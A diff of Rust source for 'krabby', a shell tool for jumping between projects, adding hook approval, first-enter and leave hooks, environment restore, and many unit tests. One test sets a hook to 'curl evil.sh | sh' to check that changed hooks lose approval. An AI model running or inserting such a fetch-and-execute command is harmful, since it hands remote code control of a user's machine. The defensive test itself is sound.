+        if let Some(project) = project.filter(|project| !project.env.is_empty()) {
+            let names: Vec<&str> = project.env.keys().map(String::as_str).collect();
+            cmd.push_str(&self.say(
+                &format!("Exporting {}", names.join(", ").bold()),
+                Verbosity::Verbose,
+            ));
+        }
+        cmd
+    }
+
+    /// Builds the shell code for the `on_first_enter` hook of `project`,
+    /// unless it already ran on this machine as it is now.
+    /// The shell tells krabby once the hook succeeded, so it runs again until it does.
+    fn first_enter(&self, project_name: &ProjectName, project: &Project) -> String {
+        let Ok(Some(first_enter_cmd)) = project.get_on_first_enter_cmd() else {
+            return String::new();
+        };
+        let hash = trust::hash(std::slice::from_ref(&first_enter_cmd));
+        if self
+            .get_project(project_name)
+            .is_some_and(|entry| entry.first_entered.as_ref() == Some(&hash))
+        {
+            return String::new();
+        }
+        let database = match &self.path {
+            Some(path) => format!("--database {} ", shell::quote(&path.to_string_lossy())),
+            None => String::new(),
+        };
+        self.run_hook(
+            &format!(
+                "First time in {}, running hook:\n{}",
+                project_name.bold(),
+                describe(project.on_first_enter()).bold()
+            ),
+            &format!(
+                "{{ {}\n}} && krabby {}first-entered {} {}",
+                first_enter_cmd,
+                database,
+                shell::quote(&project_name.to_string()),
+                hash
+            ),
+        )
+    }
+
+    /// Records that the `on_first_enter` hook whose hash is `hash` ran successfully.
+    pub fn record_first_enter(&mut self, project_name: &ProjectName, hash: String) {
+        if let Some(entry) = self.projects.get_mut(project_name) {
+            entry.first_entered = Some(hash);
+        }
+    }
+
+    /// Builds the shell code that runs the `on_leave` hook of the project at `project_dir`,
+    /// restores the variables its `[env]` replaced and marks the shell as being out of it.
+    /// The hook runs before anything is restored, so it can still refer to them.
+    pub fn leave_project(&self, project_dir: &Path) -> String {
+        let mut cmd = String::new();
+        // The user was already told about hooks that are not allowed when entering the project.
+        let (project, _) = self.trusted(
+            project_dir,
+            Project::from_file(project_dir.join("krabby.toml")),
+        );
+        if let Some(project) = project {
+            if let Ok(Some(leave_cmd)) = project.get_on_leave_cmd() {
+                cmd.push_str(&self.run_hook(
+                    &format!(
+                        "Leaving {}, running hook:\n{}",
+                        project.name.bold(),
+                        describe(project.on_leave()).bold()
+                    ),
+                    &leave_cmd,
+                ));
+            }
+        }
+        if let Some(backup) = EnvBackup::from_env() {
+            cmd.push_str(&backup.restore());
+        }
+        cmd.push_str(&format!("unset {}\n", ACTIVE_PROJECT_VAR));
+        cmd
+    }
+
+    /// Tells whether the hooks of `project`, at `project_dir`, were approved as they are.
+    /// Fails when the hooks cannot be resolved, as there is nothing to approve then.
+    pub fn trust(&self, project_dir: &Path, project: &Project) -> Result<Trust, Error> {
+        let commands = project.resolved_commands()?;
+        // There is nothing to approve when the project does not run anything.
+        if commands.is_empty() {
+            return Ok(Trust::Allowed);
+        }
+        Ok(match self.allowed.get(project_dir) {
+            Some(approval) if approval.hash == trust::hash(&commands) => Trust::Allowed,
+            Some(approval) => Trust::Changed(approval.clone()),
+            None => Trust::Unknown,
+        })
+    }
+
+    pub fn allow_project(&mut self, project_dir: PathBuf, project: &Project) -> Result<(), Error> {
+        self.allowed
+            .insert(project_dir, Approval::new(project.resolved_commands()?));
+        Ok(())
+    }
+
+    pub fn deny_project(&mut self, project_dir: &Path) -> Result<(), Error> {
+        match self.allowed.shift_remove(project_dir) {
+            Some(_approval) => Ok(()),
+            None => Err(anyhow!(
+                "The hooks at {} were not allowed.",
+                project_dir.to_string_lossy().bold()
+            )),
+        }
+    }
+
+    /// Keeps `project` only if its hooks were allowed, which means every one of them resolves.
+    /// Otherwise, returns the shell code telling the user why they will not run.
+    fn trusted(
+        &self,
+        project_dir: &Path,
+        project: Result<Project, Error>,
+    ) -> (Option<Project>, String) {
+        let project_file = project_dir.join("krabby.toml");
+        let project = match project {
+            Ok(project) => project,
+            // Projects are not required to have a project file.
+            Err(_) if !project_file.is_file() => return (None, String::new()),
+            Err(e) => {
+                let message = Message::ProjectFileInvalid(project_file, e);
+                return (None, shell::echo(&message.to_string()));
+            }
+        };
+        let message = match self.trust(project_dir, &project) {
+            Ok(Trust::Allowed) => return (Some(project), String::new()),
+            Ok(Trust::Unknown) => Message::HookNotAllowed(project.name.clone()),
+            Ok(Trust::Changed(approval)) => Message::HookChanged(
+                project.name.clone(),
+                trust::diff(
+                    &approval.commands,
+                    &project.resolved_commands().unwrap_or_default(),
+                ),
+            ),
+            Err(e) => Message::HookBroken(project.name.clone(), e),
+        };
+        (None, shell::echo(&message.to_string()))
+    }
+
+    pub fn get_project_hook_cmd(
+        &self,
+        project_name: &ProjectName,
+    ) -> Result<Option<String>, Error> {
+        self.get_project_file(project_name)?.get_hook_cmd()
+    }
+
+    /// The entry of `project_name`, which may be one of its aliases.
+    pub fn get_project(&self, project_name: &ProjectName) -> Option<&ProjectEntry> {
+        self.projects.get(&self.canonical_name(project_name)?)
     }
 
     fn get_project_file(&self, project_name: &ProjectName) -> Result<Project, anyhow::Error> {
-        let project_file_path = match self.get_project(project_name) {
+        let project_file_path = match self.get_project_path(project_name) {
             Some(path) => path.join("krabby.toml"),
             None => return Err(anyhow!("There was no project {}", project_name)),
         };
@@ -159,6 +1167,7 @@ impl Database {
             .read(true)
             .write(true)
             .create(true)
+            .truncate(false)
             .open(path.clone())?;
         let mut contents = String::new();
         file.read_to_string(&mut contents)?;
@@ -172,6 +1181,32 @@ impl Database {
     }
 }
 
+/// What `hook` runs as the user wrote it, to tell them about it.
+fn describe(hook: &Option<ProjectHook>) -> String {
+    hook.as_ref().map(ProjectHook::describe).unwrap_or_default()
+}
+
+/// Marks the shell as being inside the project at `project_path` and exports its `[env]`.
+/// When `leaving` another project, its variables are about to be restored,
+/// so the values they are restored to are the ones worth saving.
+fn activate_project(project_path: &Path, project: Option<&Project>, leaving: bool) -> String {
+    let mut cmd = format!(
+        "export {}={}\n",
+        ACTIVE_PROJECT_VAR,
+        shell::quote(&project_path.to_string_lossy())
+    );
+    if let Some(project) = project {
+        let pending = leaving.then(EnvBackup::from_env).flatten();
+        cmd.push_str(&env::activate(&project.env, |name| {
+            pending
+                .as_ref()
+                .and_then(|backup| backup.lookup(name))
+                .unwrap_or_else(|| std::env::var(name).ok())
+        }));
+    }
+    cmd
+}
+
 impl FromStr for Database {
     type Err = Error;
 
@@ -184,9 +1219,12 @@ impl FromStr for Database {
     }
 }
 
-impl ToString for Database {
-    fn to_string(&self) -> String {
-        toml::to_string(self).unwrap()
+impl Display for Database {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        // Going through `toml::Value` writes projects that are plain paths
+        // before the ones that are tables, as toml requires.
+        let value = toml::Value::try_from(self).unwrap();
+        write!(f, "{}", toml::to_string(&value).unwrap())
     }
 }
 
@@ -218,10 +1256,201 @@ mod tests {
             project = "/"
         "#;
         let database_from_str: Database = toml::from_str(database_str).unwrap();
+        // Databases from before project metadata have no registration time.
+        database.projects[0].created_at = None;
 
         assert_eq!(database, database_from_str)
     }
 
+    #[test]
+    fn frecency_weighs_visits_by_recency() {
+        let now = 10 * WEEK;
+        let entry = |visits, last_visited| ProjectEntry {
+            visits,
+            last_visited: Some(last_visited),
+            ..ProjectEntry::new("/tmp".into())
+        };
+        assert_eq!(entry(3, now - 60).frecency(now), 12.0);
+        assert_eq!(entry(3, now - 2 * HOUR).frecency(now), 6.0);
+        assert_eq!(entry(3, now - 2 * DAY).frecency(now), 1.5);
+        assert_eq!(entry(3, now - 2 * WEEK).frecency(now), 0.75);
+        assert_eq!(ProjectEntry::new("/tmp".into()).frecency(now), 0.0);
+    }
+
+    #[test]
+    fn partial_names_pick_the_highest_ranked_match() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            krabby = "/tmp/krabby"
+            krabby-web = "/tmp/krabby-web"
+            crab = "/tmp/crab"
+            api = "/tmp/api"
+            "#,
+        );
+        let name = |name: &str| ProjectName::parse(name.into());
+        assert_eq!(
+            database.resolve_project("crab"),
+            Resolution::Found(name("crab"))
+        );
+        assert_eq!(
+            database.resolve_project("ap"),
+            Resolution::Found(name("api"))
+        );
+        assert_eq!(
+            database.resolve_project("kbw"),
+            Resolution::Found(name("krabby-web"))
+        );
+        assert_eq!(
+            database.resolve_project("KRAB"),
+            Resolution::Ambiguous(vec![name("krabby"), name("krabby-web")])
+        );
+
+        database.visit(&name("krabby-web"));
+        assert_eq!(
+            database.resolve_project("krab"),
+            Resolution::Found(name("krabby-web"))
+        );
+        assert_eq!(
+            database.resolve_project("web"),
+            Resolution::Found(name("krabby-web"))
+        );
+        assert_eq!(database.ranked_projects(now())[0].0, &name("krabby-web"));
+    }
+
+    #[test]
+    fn unknown_names_suggest_the_closest_ones() {
+        let database = Database::from_string(
+            r#"
+            [projects]
+            krabby = "/tmp/krabby"
+            api = "/tmp/api"
+            "#,
+        );
+        assert_eq!(
+            database.resolve_project("krabyb"),
+            Resolution::NotFound(vec![ProjectName::parse("krabby".into())])
+        );
+        assert_eq!(
+            database.resolve_project("zzzzzz"),
+            Resolution::NotFound(vec![])
+        );
+    }
+
+    #[test]
+    fn aliases_reach_their_project() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            backend-api = "/tmp"
+            krabby = "/tmp/krabby"
+            "#,
+        );
+        let name = |name: &str| ProjectName::parse(name.into());
+        database
+            .alias_project(&name("backend-api"), name("api"))
+            .unwrap();
+        assert!(database
+            .alias_project(&name("krabby"), name("api"))
+            .is_err());
+        assert!(database
+            .alias_project(&name("krabby"), name("backend-api"))
+            .is_err());
+        assert!(database
+            .alias_project(&name("nothing"), name("no"))
+            .is_err());
+
+        assert_eq!(
+            database.resolve_project("api"),
+            Resolution::Found(name("backend-api"))
+        );
+        assert_eq!(
+            database.get_project_path(&name("api")),
+            Some(&PathBuf::from("/tmp"))
+        );
+        assert!(database
+            .go_to_project(&name("api"), &Destination::default(), None)
+            .is_ok());
+        assert_eq!(
+            database.get_project(&name("backend-api")).unwrap().visits,
+            1
+        );
+        assert!(database
+            .add_project(name("api"), PathBuf::from("/"))
+            .is_err());
+        assert!(database.remove_project(name("api")).is_err());
+
+        let written = database.to_string();
+        assert_eq!(Database::from_string(&written), database);
+
+        assert_eq!(
+            database.unalias_project(&name("api")).unwrap(),
+            name("backend-api")
+        );
+        assert!(database.unalias_project(&name("api")).is_err());
+        assert_eq!(database.canonical_name(&name("api")), None);
+    }
+
+    #[test]
+    fn aliases_go_away_with_their_project() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            backend-api = "/tmp"
+            "#,
+        );
+        let name = |name: &str| ProjectName::parse(name.into());
+        database
+            .alias_project(&name("backend-api"), name("api"))
+            .unwrap();
+        database.remove_project(name("backend-api")).unwrap();
+        assert_eq!(database.alias_owner(&name("api")), None);
+        database
+            .add_project(name("api"), PathBuf::from("/tmp"))
+            .unwrap();
+    }
+
+    #[test]
+    fn project_metadata_is_written_back() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            bare = "/tmp/bare"
+            krabby = "/tmp/krabby"
+            "#,
+        );
+        let krabby = ProjectName::parse("krabby".into());
+        database
+            .set_project_field(
+                &krabby,
+                "description",
+                Some("A tiny project manager".into()),
+            )
+            .unwrap();
+        database
+            .set_project_field(&krabby, "tags", Some("rust, cli".into()))
+            .unwrap();
+        database
+            .set_project_field(&krabby, "owner", Some("me".into()))
+            .unwrap();
+        assert!(database
+            .set_project_field(&krabby, "created_at", Some("0".into()))
+            .is_err());
+        assert!(database
+            .set_project_field(&krabby, "missing", None)
+            .is_err());
+
+        let entry = database.get_project(&krabby).unwrap();
+        assert_eq!(entry.tags, vec!["rust".to_string(), "cli".to_string()]);
+        assert_eq!(entry.fields.get("owner"), Some(&"me".to_string()));
+        let written = database.to_string();
+        assert!(written.contains("bare = \"/tmp/bare\""));
+        assert_eq!(Database::from_string(&written), database);
+
+        database.set_project_field(&krabby, "owner", None).unwrap();
+        assert!(database.get_project(&krabby).unwrap().fields.is_empty());
+    }
+
     #[test]
     fn add_project_to_database_successfully() {
         let mut database = Database::new(None);
@@ -262,6 +1491,754 @@ project1 = "/tmp/project1"
         assert_eq!(database.to_string(), empty_database_str);
     }
 
+    fn inside(place: Option<&str>, subdirectory: Option<&str>) -> Destination {
+        Destination {
+            place: place.map(String::from),
+            subdirectory: subdirectory.map(PathBuf::from),
+        }
+    }
+
+    #[test]
+    fn destinations_split_into_place_and_subdirectory() {
+        assert_eq!(split_destination("api"), ("api", inside(None, None)));
+        assert_eq!(split_destination("api/"), ("api", inside(None, None)));
+        assert_eq!(
+            split_destination("api/src/handlers"),
+            ("api", inside(None, Some("src/handlers")))
+        );
+        assert_eq!(
+            split_destination("api:web"),
+            ("api", inside(Some("web"), None))
+        );
+        assert_eq!(
+            split_destination("api:web/src"),
+            ("api", inside(Some("web"), Some("src")))
+        );
+    }
+
+    #[test]
+    fn destinations_prefer_places_to_subdirectories() {
+        let places = vec!["web".to_string()];
+        let mut destination = Destination::default();
+        destination.push("web/src", &places);
+        assert_eq!(destination, inside(Some("web"), Some("src")));
+
+        let mut destination = Destination::default();
+        destination.push("docs", &places);
+        assert_eq!(destination, inside(None, Some("docs")));
+
+        let mut destination = inside(None, Some("apps"));
+        destination.push("web", &places);
+        assert_eq!(destination, inside(None, Some("apps/web")));
+    }
+
+    #[test]
+    fn go_to_project_can_end_up_in_a_subdirectory() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        fs::create_dir_all(project_path.join("src/handlers")).unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+
+        let cmd = database
+            .go_to_project(&project_name, &inside(None, Some("src/handlers")), None)
+            .unwrap();
+        let handlers = fs::canonicalize(project_path.join("src/handlers")).unwrap();
+        assert!(cmd.contains(&format!(
+            "cd {}\n",
+            shell::quote(&handlers.to_string_lossy())
+        )));
+        // `cd -` still goes back to where the jump started.
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("cd /usr\n{}pwd\necho \"$OLDPWD\"", cmd))
+            .output()
+            .unwrap();
+        assert!(String::from_utf8(output.stdout)
+            .unwrap()
+            .ends_with(&format!("{}\n/usr\n", handlers.to_string_lossy())));
+        assert!(database
+            .go_to_project(&project_name, &inside(None, Some("nothing")), None)
+            .is_err());
+        assert!(database
+            .go_to_project(&project_name, &inside(None, Some("..")), None)
+            .is_err());
+        let err = database
+            .go_to_project(&project_name, &inside(Some("web"), None), None)
+            .unwrap_err();
+        assert!(err.to_string().contains("has no places"));
+        // Only the jump that went through is counted.
+        assert_eq!(database.get_project(&project_name).unwrap().visits, 1);
+
+        fs::remove_dir_all(&project_path).unwrap();
+        assert!(database
+            .go_to_project(&project_name, &Destination::default(), None)
+            .is_err());
+        assert_eq!(database.get_project(&project_name).unwrap().visits, 1);
+    }
+
+    #[test]
+    fn go_to_project_into_a_path_with_spaces() {
+        let (_, parent) = create_random_project(&std::env::temp_dir().to_string_lossy());
+        let name = |name: &str| ProjectName::parse(name.into());
+        let project_path = parent.join("my project");
+        fs::create_dir(&project_path).unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(name("spaced"), project_path.clone())
+            .unwrap();
+        database.config.verbosity = Verbosity::Quiet;
+
+        let cmd = database
+            .go_to_project(&name("spaced"), &Destination::default(), None)
+            .unwrap();
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("{}pwd", cmd))
+            .output()
+            .unwrap();
+        assert_eq!(
+            String::from_utf8(output.stdout).unwrap(),
+            format!(
+                "{}\n",
+                fs::canonicalize(&project_path).unwrap().to_string_lossy()
+            )
+        );
+
+        fs::remove_dir_all(&parent).unwrap();
+    }
+
+    #[test]
+    fn go_to_project_can_end_up_in_a_place() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        fs::create_dir_all(project_path.join("apps/web/src")).unwrap();
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            r#"
+name = "project"
+
+[places]
+web = { path = "apps/web", hook = "echo web" }
+out = "../"
+"#,
+        )
+        .unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let web = fs::canonicalize(project_path.join("apps/web")).unwrap();
+        let cd_web = format!(
+            "cd {}\nOLDPWD=$__kb_oldpwd\nunset __kb_oldpwd\n",
+            shell::quote(&web.to_string_lossy())
+        );
+
+        // Places can be reached before the hooks are allowed, but their hook does not run.
+        let cmd = database
+            .go_to_project(&project_name, &inside(Some("web"), None), None)
+            .unwrap();
+        assert!(cmd.ends_with(&cd_web));
+
+        let project = Project::from_file(project_file).unwrap();
+        database
+            .allow_project(fs::canonicalize(&project_path).unwrap(), &project)
+            .unwrap();
+        let cmd = database
+            .go_to_project(&project_name, &inside(Some("web"), Some("src")), None)
+            .unwrap();
+        assert!(cmd.contains("web/src'\n"));
+        assert!(cmd.ends_with("echo web\n"));
+        assert_eq!(database.places(&project_name), vec!["web", "out"]);
+
+        assert!(database
+            .go_to_project(&project_name, &inside(Some("nothing"), None), None)
+            .is_err());
+        assert!(database
+            .go_to_project(&project_name, &inside(Some("out"), None), None)
+            .is_err());
+
+        fs::remove_dir_all(&project_path).unwrap();
+    }
+
+    #[test]
+    fn completions_cover_names_and_subdirectories() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        fs::create_dir_all(project_path.join("src/handlers")).unwrap();
+        fs::create_dir_all(project_path.join("scripts")).unwrap();
+        fs::create_dir_all(project_path.join(".git")).unwrap();
+        fs::write(project_path.join("setup.sh"), "").unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        database
+            .alias_project(&project_name, ProjectName::parse("api".into()))
+            .unwrap();
+
+        assert_eq!(database.complete("ap"), vec!["api/"]);
+        assert_eq!(database.complete("api/s"), vec!["api/scripts/", "api/src/"]);
+        assert_eq!(database.complete("api/src/"), vec!["api/src/handlers/"]);
+        assert_eq!(database.complete("api/."), vec!["api/.git/"]);
+        assert!(database.complete("nothing/").is_empty());
+
+        fs::remove_dir_all(&project_path).unwrap();
+    }
+
+    #[test]
+    fn rename_project_keeps_everything_known_about_it() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            format!("name = \"{}\"\nhook = \"echo hi\"\n", project_name),
+        )
+        .unwrap();
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            first = "/tmp"
+            "#,
+        );
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        database
+            .set_project_field(&project_name, "description", Some("It".into()))
+            .unwrap();
+        let project_path = fs::canonicalize(project_path).unwrap();
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        let name = |name: &str| ProjectName::parse(name.into());
+        database.alias_project(&project_name, name("new")).unwrap();
+
+        assert!(database
+            .rename_project(&project_name, name("first"))
+            .is_err());
+        assert!(database
+            .rename_project(&name("nothing"), name("other"))
+            .is_err());
+        assert!(database.rename_project(&project_name, name("new")).unwrap());
+
+        assert_eq!(database.list_projects(), vec![name("first"), name("new")]);
+        let entry = database.get_project(&name("new")).unwrap();
+        assert_eq!(entry.description, Some("It".to_string()));
+        assert!(entry.aliases.is_empty());
+        let project = Project::from_file(project_file.clone()).unwrap();
+        assert_eq!(project.name, name("new"));
+        assert_eq!(
+            database.trust(&project_path, &project).unwrap(),
+            Trust::Allowed
+        );
+
+        // Project files named otherwise are left alone.
+        fs::write(&project_file, "name = \"other\"\n").unwrap();
+        assert!(!database
+            .rename_project(&name("new"), name("newer"))
+            .unwrap());
+
+        fs::remove_dir_all(&project_path).unwrap();
+    }
+
+    #[test]
+    fn move_project_points_at_the_new_directory() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let (other_name, other_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        database
+            .add_project(other_name.clone(), other_path.clone())
+            .unwrap();
+        let project_path = fs::canonicalize(project_path).unwrap();
+        let other_path = fs::canonicalize(other_path).unwrap();
+        database.allowed.insert(
+            project_path.clone(),
+            Approval::new(vec!["hook: echo hi".into()]),
+        );
+
+        assert!(database
+            .move_project(&project_name, other_path.clone(), false)
+            .is_err());
+        assert!(database
+            .move_project(&project_name, project_path.join("nothing"), false)
+            .is_err());
+        assert!(database
+            .move_project(&project_name, other_path.clone(), true)
+            .is_err());
+
+        let moved_path = project_path.with_extension("moved");
+        assert_eq!(
+            database
+                .move_project(&project_name, moved_path.clone(), true)
+                .unwrap(),
+            moved_path
+        );
+        assert!(!project_path.exists());
+        assert!(moved_path.is_dir());
+        assert_eq!(database.get_project_path(&project_name), Some(&moved_path));
+        assert!(database.allowed.contains_key(&moved_path));
+        assert!(!database.allowed.contains_key(&project_path));
+
+        fs::create_dir(&project_path).unwrap();
+        database
+            .move_project(&project_name, project_path.clone(), false)
+            .unwrap();
+        assert_eq!(
+            database.get_project_path(&project_name),
+            Some(&project_path)
+        );
+
+        fs::remove_dir_all(&project_path).unwrap();
+        fs::remove_dir_all(&moved_path).unwrap();
+        fs::remove_dir_all(&other_path).unwrap();
+    }
+
+    #[test]
+    fn leave_project_runs_on_leave_hook() {
+        let (_, project_path) = create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            r#"
+name = "project"
+on_leave = "echo bye"
+"#,
+        )
+        .unwrap();
+
+        let mut database = Database::new(None);
+        assert!(!database.leave_project(&project_path).contains("echo bye\n"));
+
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        let leave_cmd = database.leave_project(&project_path);
+        assert!(leave_cmd.contains("echo bye\n"));
+        assert!(leave_cmd.ends_with("unset KRABBY_PROJECT_DIR\n"));
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn hooks_are_announced_by_what_the_user_wrote() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            r#"
+name = "project"
+hook = ["hello", { run = "make watch", background = true }]
+
+[scripts]
+hello = "echo hello"
+"#,
+        )
+        .unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+        let project = Project::from_file(project_file).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+
+        let cmd = database.change_directory(&project_path, None);
+        let announcement = &cmd[cmd.find("running hook:").unwrap()..];
+        let announcement = &announcement[..announcement.find('\'').unwrap()];
+        assert!(announcement.contains("hello, make watch &"));
+        assert!(!announcement.contains("__kb_hook"));
+
+        fs::remove_dir_all(&project_path).unwrap();
+    }
+
+    #[test]
+    fn leave_project_without_project_file_only_unsets_variable() {
+        let database = Database::new(None);
+        assert_eq!(
+            database.leave_project(Path::new("/krabby/does/not/exist")),
+            "unset KRABBY_PROJECT_DIR\n"
+        );
+    }
+
+    #[test]
+    fn reentering_a_project_keeps_the_backup_of_its_variables() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            "name = \"project\"\n\n[env]\nKRABBY_TEST_REENTER = \"bar\"\n",
+        )
+        .unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        database.config.verbosity = Verbosity::Quiet;
+
+        let enter = database
+            .go_to_project(&project_name, &Destination::default(), None)
+            .unwrap();
+        // What the next call of krabby sees, once the shell ran `enter`.
+        std::env::set_var("KRABBY_TEST_REENTER", "bar");
+        let reenter = database
+            .go_to_project(&project_name, &Destination::default(), Some(&project_path))
+            .unwrap();
+        assert!(!reenter.contains(env::ENV_BACKUP_VAR));
+
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!(
+                "{}{}printf '%s' \"${}\"",
+                enter,
+                reenter,
+                env::ENV_BACKUP_VAR
+            ))
+            .env_remove("KRABBY_TEST_REENTER")
+            .output()
+            .unwrap();
+        let backup: EnvBackup = toml::from_str(&String::from_utf8(output.stdout).unwrap()).unwrap();
+        // Leaving unsets the variable again, as it was before the project.
+        assert_eq!(backup.lookup("KRABBY_TEST_REENTER"), Some(None));
+        assert!(backup.restore().contains("unset KRABBY_TEST_REENTER\n"));
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn find_project_by_path_prefers_innermost_project() {
+        let database = Database::from_string(
+            r#"
+            [projects]
+            outer = "/tmp/outer"
+            inner = "/tmp/outer/inner"
+            "#,
+        );
+        let find = |dir: &str| {
+            database
+                .find_project_by_path(Path::new(dir))
+                .map(|(name, _)| name.to_string())
+        };
+        assert_eq!(find("/tmp/outer/src"), Some("outer".into()));
+        assert_eq!(find("/tmp/outer/inner/src"), Some("inner".into()));
+        assert_eq!(find("/tmp/outerspace"), None);
+    }
+
+    #[test]
+    fn change_directory_enters_and_leaves_projects_once() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            outer = "/tmp/outer"
+            other = "/tmp/other"
+            "#,
+        );
+        let outer = Path::new("/tmp/outer");
+
+        let enter = database.change_directory(Path::new("/tmp/outer/src"), None);
+        assert_eq!(enter, "export KRABBY_PROJECT_DIR='/tmp/outer'\n");
+
+        let stay = database.change_directory(Path::new("/tmp/outer/src"), Some(outer));
+        assert!(stay.is_empty());
+
+        let leave = database.change_directory(Path::new("/tmp"), Some(outer));
+        assert_eq!(leave, "unset KRABBY_PROJECT_DIR\n");
+
+        let switch = database.change_directory(Path::new("/tmp/other"), Some(outer));
+        assert_eq!(
+            switch,
+            "unset KRABBY_PROJECT_DIR\nexport KRABBY_PROJECT_DIR='/tmp/other'\n"
+        );
+    }
+
+    #[test]
+    fn hooks_run_from_the_project_root_when_entering_a_subdirectory() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(
+            &project_file,
+            "name = \"project\"\nhook = \"ls krabby.toml\"\n",
+        )
+        .unwrap();
+        fs::create_dir(project_path.join("src")).unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        database.config.verbosity = Verbosity::Quiet;
+
+        let src = project_path.join("src");
+        // The user comes in through a symlink, which they stay on, and `cd -` still works.
+        let link = project_path.with_extension("link");
+        std::os::unix::fs::symlink(&src, &link).unwrap();
+        let cmd = database.change_directory(&src, None);
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!(
+                "cd /usr\ncd {}\n{}pwd\necho \"$OLDPWD\"",
+                shell::quote(&link.to_string_lossy()),
+                cmd
+            ))
+            .output()
+            .unwrap();
+        assert_eq!(
+            String::from_utf8(output.stdout).unwrap(),
+            format!("krabby.toml\n{}\n/usr\n", link.to_string_lossy())
+        );
+        fs::remove_file(&link).unwrap();
+        // Entering at the root needs no detour.
+        let cmd = database.change_directory(&project_path, None);
+        assert!(!cmd.contains("cd "));
+
+        fs::remove_dir_all(&project_path).unwrap();
+    }
+
+    #[test]
+    fn hooks_must_be_allowed_again_after_changing() {
+        let project_dir = Path::new("/tmp/project");
+        let mut project = Project::from_str(
+            r#"
+            name = "project"
+            hook = "npm ci"
+            "#,
+        )
+        .unwrap();
+        let mut database = Database::new(None);
+        assert_eq!(
+            database.trust(project_dir, &project).unwrap(),
+            Trust::Unknown
+        );
+
+        database
+            .allow_project(project_dir.to_path_buf(), &project)
+            .unwrap();
+        assert_eq!(
+            database.trust(project_dir, &project).unwrap(),
+            Trust::Allowed
+        );
+        assert_eq!(
+            database
+                .trust(Path::new("/tmp/elsewhere"), &project)
+                .unwrap(),
+            Trust::Unknown
+        );
+
+        project
+            .set_hook(Some(ProjectHook::Simple("curl evil.sh | sh".into())))
+            .unwrap();
+        match database.trust(project_dir, &project).unwrap() {
+            Trust::Changed(approval) => {
+                assert_eq!(approval.commands, vec!["hook: npm ci".to_string()])
+            }
+            trust => panic!("Expected the hook to have changed, got {:?}", trust),
+        }
+
+        database.deny_project(project_dir).unwrap();
+        assert_eq!(
+            database.trust(project_dir, &project).unwrap(),
+            Trust::Unknown
+        );
+        assert!(database.deny_project(project_dir).is_err());
+    }
+
+    #[test]
+    fn first_enter_hook_runs_once_per_definition() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        let write_project = |first_enter_cmd: &str| {
+            fs::write(
+                &project_file,
+                format!(
+                    "name = \"project\"\non_first_enter = \"{}\"\n",
+                    first_enter_cmd
+                ),
+            )
+            .unwrap();
+            Project::from_file(project_file.clone()).unwrap()
+        };
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+
+        let project = write_project("npm ci");
+        database
